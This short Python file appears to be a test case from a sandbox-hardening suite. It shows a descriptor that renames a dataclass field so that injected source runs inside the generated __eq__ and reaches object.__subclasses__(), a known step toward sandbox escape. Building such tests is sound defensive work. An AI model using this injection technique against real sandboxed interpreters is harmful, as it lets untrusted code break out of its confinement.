# technique: a descriptor's __get__ renames a base dataclass Field during processing: attacker source in the generated __eq__
# expect: any
import dataclasses
@dataclasses.dataclass
class Base:
    "doc"
    x: int = 0
class D:
    def __get__(self, inst, owner):
        Base.__dataclass_fields__["x"].name = "x,self.x.append(().__class__.__base__.__subclasses__())"
        return 0
class C(Base):
    "doc"
    a: int = D()
dataclasses.dataclass(init=False, repr=False)(C)
p = C(); q = C(); p.x = []; q.x = []
p == q
print(len(p.x[0]))
